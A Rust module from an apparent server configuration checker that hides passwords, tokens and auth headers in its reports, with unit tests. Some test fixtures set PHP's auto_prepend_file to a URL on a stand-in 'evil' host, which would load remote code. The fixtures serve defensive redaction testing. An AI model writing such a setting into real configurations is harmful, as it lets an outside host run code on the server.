//! Secrets that stand in what was read come out of no format: users and passwords of URLs, parameters of theirs that open
//! doors, values under secret names.
//!
//! Only what is secret by its form goes, and nothing around it: paths, commands and the check's own sentences stay as they are.

use crate::rule::{CheckFinding, Fix};
use crate::rules::CHECKS;
use kneepoint_model::redact::{HIDDEN, is_secret_name, is_secret_parameter};
use std::ops::Range;

/// The text without secrets; nothing where it holds none.
pub(super) fn without(text: &str) -> Option<String> {
    let found = secrets(text);
    if found.is_empty() {
        return None;
    }
    let (mut out, mut done) = (String::with_capacity(text.len()), 0);
    for secret in found {
        if secret.start >= done {
            out.push_str(&text[done..secret.start]);
            out.push_str(HIDDEN);
        }
        done = done.max(secret.end);
    }
    Some(out + &text[done..])
}

/// A fix that would hold a secret is told in the rule's own words: a mark in its place would be taken for the value.
pub(super) fn no_secret_in_fix(finding: &mut CheckFinding) {
    let fix = &finding.fix;
    let seen = finding.seen.iter().map(|seen| seen.what.as_str());
    let known: Vec<&str> = seen
        .chain([fix.text.as_str(), fix.apply.as_str()])
        .chain(fix.written())
        .flat_map(|text| secrets(text).into_iter().map(move |range| &text[range]))
        .flat_map(|secret| [secret, secret.split_once(':').map_or(secret, |(_, it)| it)])
        // A letter or two stand anywhere.
        .filter(|secret| secret.len() > 2)
        .collect();
    let holds =
        |text: &str| !secrets(text).is_empty() || known.iter().any(|one| text.contains(one));
    let path = fix.file.iter().map(|file| file.path.as_str());
    let told = [fix.text.as_str(), fix.apply.as_str()].into_iter();
    if !told.chain(path).chain(fix.written()).any(holds) {
        return;
    }
    let apply = match holds(&fix.apply) {
        true => "Have the program read its files again.".to_owned(),
        false => fix.apply.clone(),
    };
    let mut sources = finding.seen.iter().map(|seen| seen.source.as_str());
    let place = sources
        .find(|source| !source.is_empty())
        .map_or("Where it is set".to_owned(), |source| {
            format!("In {source}")
        });
    let rule = CHECKS.iter().find(|rule| rule.code == finding.code);
    let what = rule.map_or("", |rule| rule.what_to_write);
    finding.fix = Fix {
        apply,
        ..Fix::words(format!(
            "{place}, by hand, since a line for it would hold the secret that stands there: {what}"
        ))
    };
}

/// Where secrets stand in a text, from its beginning to its end.
fn secrets(text: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    users_of_urls(text, &mut found);
    users_alone(text, &mut found);
    parameters(text, &mut found);
    assigned(text, &mut found);
    headers(text, &mut found);
    found.sort_by_key(|range| range.start);
    found
}

/// Keeps a value from `start` on that is one: neither empty, nor a variable, nor hidden already.
fn keep(text: &str, start: usize, length: usize, found: &mut Vec<Range<usize>>) {
    let value = &text[start..start + length];
    if !value.is_empty() && !value.starts_with(['$', '{']) && !value.starts_with(HIDDEN) {
        found.push(start..start + length);
    }
}

fn is_quote(letter: char) -> bool {
    matches!(letter, '"' | '\'' | '`')
}

/// `scheme://user:password@host`.
fn users_of_urls(text: &str, found: &mut Vec<Range<usize>>) {
    for (at, sign) in text.match_indices("://") {
        let start = at + sign.len();
        let rest = &text[start..];
        let ends =
            |letter: char| letter.is_whitespace() || is_quote(letter) || "/?#<>".contains(letter);
        let mut host = &rest[..rest.find(ends).unwrap_or(rest.len())];
        let port = host.rsplit_once(':').map_or("", |(_, port)| port);
        let is_port = |it: &str| it.starts_with('$') || it.bytes().all(|one| one.is_ascii_digit());
        if !is_port(port) && !host.contains('@') && !host.starts_with('[') {
            // It is the beginning of a password, in which a slash may be.
            let ends = |letter: char| letter.is_whitespace() || is_quote(letter);
            host = &rest[..rest.find(ends).unwrap_or(rest.len())];
        }
        if let Some(length) = host.rfind('@')
            && !host.starts_with(HIDDEN)
        {
            found.push(start..start + length);
        }
    }
}

/// `user:password@host` without a scheme.
fn users_alone(text: &str, found: &mut Vec<Range<usize>>) {
    let ends = |letter: char| {
        letter.is_whitespace() || is_quote(letter) || "/<>(){}[],;=".contains(letter)
    };
    let mut start = 0;
    for word in text.split_inclusive(ends) {
        let user = word.rfind('@').map(|length| &word[..length]);
        let parts = user.and_then(|user| user.split_once(':'));
        if let (Some(user), Some((name, password))) = (user, parts)
            && !name.is_empty()
            && !password.is_empty()
            && !text[..start].ends_with("://")
        {
            keep(text, start, user.len(), found);
        }
        start += word.len();
    }
}

/// `?token=value`, `&auth[pass]=value`.
fn parameters(text: &str, found: &mut Vec<Range<usize>>) {
    for (at, sign) in text.match_indices(['?', '&', '#']) {
        let start = at + sign.len();
        let rest = &text[start..];
        let is_name = |letter: char| letter.is_alphanumeric() || "_-.[]%".contains(letter);
        let name = &rest[..rest.find(|it| !is_name(it)).unwrap_or(rest.len())];
        let mut parts = name.split(['[', ']']).filter(|part| !part.is_empty());
        let Some(value) = rest[name.len()..].strip_prefix('=') else {
            continue;
        };
        if parts.any(is_secret_parameter) {
            let ends = |letter: char| {
                letter.is_whitespace() || is_quote(letter) || "&#;,)<>".contains(letter)
            };
            let length = value.find(ends).unwrap_or(value.len());
            keep(text, start + name.len() + 1, length, found);
        }
    }
}

/// `requirepass = value`, `env[DB_PASSWORD] = "value"`, `--password=value`.
fn assigned(text: &str, found: &mut Vec<Range<usize>>) {
    // What is behind the last value or sign: no part of a text is looked at twice.
    let mut from = 0;
    for (at, sign) in text.match_indices('=') {
        let before = text[from..at].trim_end_matches([' ', '\t', ']', '"', '\'']);
        from = at + sign.len();
        let is_name = |letter: char| letter.is_alphanumeric() || "_-.".contains(letter);
        let name = before
            .rsplit(|letter| !is_name(letter))
            .next()
            .unwrap_or_default();
        let value = text[from..].trim_start_matches([' ', '\t']);
        let quote = value.chars().next().filter(|first| is_quote(*first));
        let value = value.strip_prefix(is_quote).unwrap_or(value);
        // A file that holds a secret is none.
        if !is_secret_name(name.trim_matches(['-', '.'])) || value.starts_with(['/', '>', '=']) {
            continue;
        }
        let length = value.find(|letter: char| match quote {
            Some(quote) => letter == quote,
            None => letter.is_whitespace() || is_quote(letter) || ";,&)<>".contains(letter),
        });
        let start = text.len() - value.len();
        keep(text, start, length.unwrap_or(value.len()), found);
    }
}

/// Directives of nginx that hand a value on under a name.
fn headers(text: &str, found: &mut Vec<Range<usize>>) {
    for directive in ["proxy_set_header ", "fastcgi_param ", "add_header "] {
        for (at, _) in text.match_indices(directive) {
            let rest = text[at + directive.len()..].trim_start();
            let (name, value) = rest.split_once(char::is_whitespace).unwrap_or((rest, ""));
            let value = value.trim_start_matches([' ', '\t', '=', '"', '\'']);
            let ends = |letter: char| is_quote(letter) || ";\n".contains(letter);
            let length = value.find(ends).unwrap_or(value.len());
            let is_variable = value[..length]
                .rsplit(' ')
                .next()
                .is_some_and(|last| last.starts_with('$'));
            if is_secret_name(name) && !is_variable {
                keep(
                    text,
                    text.len() - rest.len() + (rest.len() - value.len()),
                    length,
                    found,
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::{CheckFormat, judge, render, telling};
    use crate::rule::case::Case;

    fn hidden(text: &str) -> String {
        without(text).unwrap_or_else(|| text.to_owned())
    }

    #[test]
    fn what_is_secret_by_its_form_is_hidden_and_nothing_around_it() {
        for (text, expected) in [
            (
                "proxy_pass = http://zuser:hunter2pw@$host:8124/x?token=hunter2tok",
                "proxy_pass = http://•••@$host:8124/x?token=•••",
            ),
            (
                "https://user:hunt/er2@evil/x.php https://h/a@b",
                "https://•••@evil/x.php https://h/a@b",
            ),
            (
                "`server zuser:hunter2pw@$host:8124; keepalive 64;`",
                "`server •••@$host:8124; keepalive 64;`",
            ),
            (
                "\"tcp://a:1?auth[]=u&auth[pass]=hunter2&timeout=2,tcp://b:1?auth=hunter2\"",
                "\"tcp://a:1?auth[]=•••&auth[pass]=•••&timeout=2,tcp://b:1?auth=•••\"",
            ),
            (
                "env[DB_PASSWORD] = \"hun ter\" x",
                "env[DB_PASSWORD] = \"•••\" x",
            ),
            (
                "redis --requirepass=hunter2 -p 1",
                "redis --requirepass=••• -p 1",
            ),
            (
                "proxy_set_header Authorization \"Basic aHVudGVy\"; x",
                "proxy_set_header Authorization \"•••\"; x",
            ),
        ] {
            assert_eq!(hidden(text), expected);
            assert_eq!(hidden(expected), expected, "twice changes nothing more");
        }
    }

    #[test]
    fn ordinary_texts_stay_as_they_are() {
        for text in [
            "define('X', false); DatabaseAuth::authenticate at /srv/a/Token.php:12",
            "proxy_pass = http://app:8080/x?page=2&sort=key",
            "proxy_pass http://kept_app/x?token=$arg_token;",
            "proxy_pass = http://unix:/run/a@b.sock:/ http://[::1]:80/a@b http://h:$port/a@b",
            "proxy_set_header Authorization \"Bearer $token\"; proxy_set_header Cookie $http_cookie;",
            "fastcgi_pass = unix:/run/x@y.sock; unix:@abstract, git@host.example:x, eth0@if5",
            "ssl_certificate_key = /etc/ssl/a.key",
            "systemctl restart php@shop.service && kill -USR2 13",
            "/var/lib/docker/8f3a9c018f3a9c018f3a9c018f3a9c01/memory.max",
        ] {
            assert_eq!(without(text), None, "{text}");
        }
        for rule in CHECKS {
            for text in [
                rule.title,
                rule.what_it_is,
                rule.how_it_shows,
                rule.unless,
                rule.what_to_write,
            ] {
                assert_eq!(without(text), None, "{}", rule.code);
            }
        }
    }

    #[test]
    fn no_format_tells_a_secret_and_no_fix_holds_the_mark() {
        let conf = "http { server { location / { proxy_set_header Authorization \"Basic hunter2head\";\n \
            proxy_pass http://zuser:hunter2pw@h.example:8124/x?token=hunter2tok; } } }";
        let case = Case::healthy().nginx(conf).pool_with(
            "php_admin_value[auto_prepend_file] = \"https://user:hunter2n@evil/x.php\"",
            "",
        );
        let report = judge(&case.0);
        for format in telling::FORMATS {
            let text = render(&report, format);
            assert!(!text.contains("hunter2"), "{format:?}: {text}");
        }
        let json = render(&report, CheckFormat::Json);
        for code in ["NGX-04", "APP-19"] {
            assert!(json.contains(code), "no {code} in the test: {json}");
        }
        for finding in &report.findings {
            let fix = &finding.fix;
            let mut texts = fix.written().chain([fix.text.as_str(), fix.apply.as_str()]);
            assert!(!texts.any(|text| text.contains(HIDDEN)), "{finding:#?}");
        }
        let handed = report.findings.iter().find(|one| one.code == "NGX-04");
        let fix = &handed.expect("NGX-04").fix;
        assert!(fix.lines.is_empty() && fix.file.is_none(), "{fix:#?}");
        assert!(fix.text.contains("by hand") && fix.text.contains("keepalive 64;"));
    }
}
